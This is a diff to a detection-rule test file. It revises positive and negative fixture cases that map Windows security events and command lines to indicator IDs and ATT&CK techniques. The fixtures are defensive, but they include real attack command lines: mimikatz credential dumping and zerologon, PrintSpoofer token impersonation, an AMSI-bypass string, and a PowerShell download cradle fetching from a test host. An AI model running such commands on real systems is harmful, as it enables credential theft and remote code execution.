@@ -324,16 +324,35 @@ POSITIVES = [
         "tcc-manipulation",
         "T1548.006",
     ),
-    ({"winlog": {"event_id": 4698}}, "windows-security-events", "T1053.005"),
-    ({"winlog": {"event_id": "4732"}}, "windows-security-events", "T1098.007"),
     (
         {
-            "message": "An operation was performed on an object. Properties: {1131f6ad-9c07-11d1-f79f-00c04fb984f2}",
-            "user": {"name": "jdoe"},
+            "winlog": {
+                "channel": "Security",
+                "event_id": 4698,
+                "event_data": {"TaskContent": "<Exec><Command>cmd.exe</Command></Exec>"},
+            }
         },
-        "dcsync-replication-rights",
+        "security-scheduled-task",
+        "T1053.005",
+    ),
+    ({"winlog": {"channel": "Security", "event_id": "4732"}}, "security-group-member-added", "T1098.007"),
+    (
+        {
+            "winlog": {
+                "channel": "Security",
+                "event_id": 4662,
+                "event_data": {
+                    "SubjectUserName": "jdoe",
+                    "Properties": "%%7688\r\n{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}\r\n{19195a5b-6da0-11d0-afd3-00c04fd930c9}",
+                },
+            }
+        },
+        "security-dcsync-rights",
         "T1003.006",
     ),
+    (cmd('mimikatz.exe "lsadump::zerologon /target:dc01.corp.local /account:dc01$" exit'), "mimikatz-modules", "T1210"),
+    (cmd('mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'), "lsass-dump-tool", "T1003.001"),
+    (cmd("PrintSpoofer64.exe -i -c cmd"), "token-impersonation-tool", "T1134.001"),
     # --- Network / web
     (
         {
@@ -396,7 +415,6 @@ POSITIVES = [
     (cmd("powershell -w h -ep bypass -f .\\data\\r.ps1"), "powershell-evasive-launch", "T1059.001"),
     (cmd("powershell -w h -ep bypass -f .\\data\\r.ps1"), "hidden-window", "T1564.003"),
     (cmd('powershell -nop -c "iwr -useb https://example.test/p.ps1 | iex"'), "powershell-download-cradle", "T1105"),
-    ({"powershell": {"file": {"script_block_text": "Get-Process"}}}, "script-block-logged", "T1059.001"),
     (
         {"powershell": {"file": {"script_block_text": "$b=$a.GetField('am'+'siInit'+'Failed','NonPublic,Static')"}}},
         "powershell-string-obfuscation",
@@ -614,11 +632,20 @@ NEGATIVES = [
         cmd("sqlite3 ~/Library/Application\\ Support/com.apple.TCC/TCC.db 'select client from access'"),
         ["tcc-manipulation"],
     ),
-    ({"winlog": {"event_id": 4624}}, ["windows-security-events"]),
+    ({"winlog": {"channel": "Security", "event_id": 4624}}, ["security-logon-new-credentials"]),
     (
-        {"message": "Properties: {1131f6ad-9c07-11d1-f79f-00c04fb984f2}", "user": {"name": "DC02$"}},
-        ["dcsync-replication-rights"],
+        {
+            "winlog": {
+                "channel": "Security",
+                "event_id": 4662,
+                "event_data": {"SubjectUserName": "DC02$", "Properties": "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"},
+            }
+        },
+        ["security-dcsync-rights"],
     ),
+    ({"powershell": {"file": {"script_block_text": "Get-Process"}}}, ["powershell-download-cradle"]),
+    (cmd('mimikatz.exe "lsadump::zerologon /target:dc01 /exploit" exit'), ["lsass-dump-tool", "mimikatz-named"]),
+    (cmd("PrintSpoofer64.exe -i -c whoami"), ["whoami-discovery"]),
     (
         {"user_agent": {"original": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0"}},
         ["scanner-user-agent"],
@@ -732,7 +759,7 @@ def test_indicator_ids_are_unique_and_confidences_sane(indicators):
     assert len(ids) == len(set(ids))
     for ind in indicators.indicators:
         assert 0.5 <= ind.confidence <= 0.99, ind.id
-        assert ind.fields, ind.id
+        assert ind.fields or ind.event_only, ind.id
 
 
 def test_cases_name_real_indicators(indicators):
